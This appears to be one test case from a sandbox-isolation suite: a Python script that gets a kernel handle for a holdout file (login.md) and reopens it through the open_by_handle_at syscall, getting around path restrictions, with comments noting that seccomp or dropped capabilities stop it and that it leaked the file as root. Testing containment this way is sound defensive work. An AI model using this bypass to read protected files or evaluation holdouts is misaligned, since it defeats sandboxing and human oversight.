# does: opens the holdout by the handle of its inode, without a path
# stopped by: no capability; seccomp
# profiles: A B
# off: leaked as root
import ctypes
import os
from kit import LIBC, call, parts, say, stay

OPEN_BY_HANDLE = 304


def attack():
    handle = ctypes.create_string_buffer(bytes.fromhex(os.environ["PLANT"]))
    near = os.open(".", os.O_RDONLY)
    say(os.read(call(OPEN_BY_HANDLE, near, handle, os.O_RDONLY), 4096))


def plant():
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    path = (os.environ["HOLDOUTS"] + "/login.md").encode()
    if LIBC.name_to_handle_at(-100, ctypes.c_char_p(path), handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    length = ctypes.c_uint.from_buffer(handle).value
    stay(handle.raw[:8 + length].hex())


parts(attack, plant)
